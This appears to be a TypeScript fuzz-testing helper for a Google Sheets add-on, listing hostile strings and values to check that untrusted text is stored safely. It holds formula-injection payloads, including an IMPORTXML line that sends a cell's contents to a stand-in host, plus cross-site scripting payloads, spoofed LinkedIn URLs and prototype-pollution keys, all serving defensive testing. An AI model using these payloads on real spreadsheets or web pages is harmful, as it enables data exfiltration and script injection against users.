/** What strangers write into a profile, an archive or a cell, and what a page might send that is not ours. */
import fc from 'fast-check';

/** Text that would do harm where it were not taken as text, or that lies about what it is. */
export const HOSTILE_TEXTS = [
  '=1+1',
  '=IMPORTXML("http://evil.example/?"&A1,"//a")',
  '=HYPERLINK("http://evil.example","Click")',
  '+1-1',
  '-2+3',
  '@SUM(1)',
  '\t=1+1',
  '\r=1+1',
  '\n=1+1',
  "'=1+1",
  "''tHooft",
  "O'Brien",
  '＝1+1',
  '<script>alert(1)</script>',
  '<img src=x onerror=alert(1)>',
  '"><svg/onload=alert(1)>',
  '{{7*7}}<?= 7*7 ?>',
  'javascript:alert(1)',
  'data:text/html,<script>alert(1)</script>',
  'vbscript:msgbox(1)',
  '//evil.example/in/x',
  'https://linkedin.com.evil.example/in/x',
  'https://evil.example/linkedin.com/in/x',
  'https://www.linkedin.com@evil.example/in/x',
  'https://www.linkedin.com/in/x"onclick="alert(1)',
  'https://www.linkedin.com/in/%E0%A4%A',
  '\u202Eevil\u202C',
  '\u2066Ana\u2069',
  '\u200B\u200D\uFEFF',
  'a\u0000b',
  '\u0007\u001B[31m',
  '\uD800',
  'x\uDC00y',
  '👨‍👩‍👧‍👦',
  'Pending',
  'Withdrawn',
  'stale',
  'Ready to re-send',
  'Name',
  'Sent on',
  'Row',
  '__proto__',
  'constructor',
  'toString',
  'TRUE',
  'false',
  'VRAI',
  '007',
  '1e3',
  '12345678901234567890',
  '1/2',
  '50%',
  '€5',
  '10:30',
  'today',
  '2026-06-27',
  '01.06.2026',
  'June 1',
  '#REF!',
  '#N/A',
  'null',
  'undefined',
  'NaN',
  'İstanbul',
  'ﬁancé',
  'A\r\nB\rC\nD',
  ' \u00A0 padded \u3000',
] as const;

/** A hostile text, or several joined, or any characters at all. */
export const hostileText: fc.Arbitrary<string> = fc.oneof(
  { weight: 5, arbitrary: fc.constantFrom(...HOSTILE_TEXTS) },
  {
    weight: 2,
    arbitrary: fc
      .array(fc.constantFrom(...HOSTILE_TEXTS), { minLength: 2, maxLength: 4 })
      .map((parts) => parts.join(' ')),
  },
  { weight: 2, arbitrary: fc.string({ unit: 'binary', maxLength: 40 }) },
  {
    weight: 1,
    arbitrary: fc.string({
      unit: fc.integer({ min: 0, max: 0xffff }).map((code) => String.fromCharCode(code)),
      maxLength: 12,
    }),
  },
  {
    weight: 1,
    arbitrary: fc
      .constantFrom(1999, 2000, 2001, 49_999, 50_000, 50_001, 1_000_000)
      .map((length) => '='.padEnd(length, 'x')),
  },
);

/** Anything else that JSON can hold where text is wanted. */
export const hostileValue: fc.Arbitrary<unknown> = fc.oneof(
  fc.constantFrom<unknown>(
    null,
    0,
    -1,
    1.5,
    1e308,
    true,
    [],
    {},
    [[]],
    ['Ana'],
    { toString: null },
    { toString: 'x', valueOf: 'y' },
    { length: 5 },
    { evil: true },
    { ok: true },
  ),
  fc.constant(Array(5000).fill('x')),
  fc.constant(JSON.parse('{"__proto__": {"ok": true}, "constructor": 1}')),
  fc.jsonValue({ maxDepth: 3 }),
);

/**
 * As the add-on must keep it: what cannot be printed is gone, lines end as Sheets ends them, no space around
 * it.
 */
export function kept(text: string): string {
  return [...text.replace(/\r\n?/g, '\n')]
    .filter((character) => {
      const code = character.codePointAt(0) ?? 0;
      const isControl = (code < 32 && code !== 9 && code !== 10) || (code >= 127 && code < 160);
      return !isControl && !(code >= 0xd800 && code <= 0xdfff);
    })
    .join('')
    .trim();
}
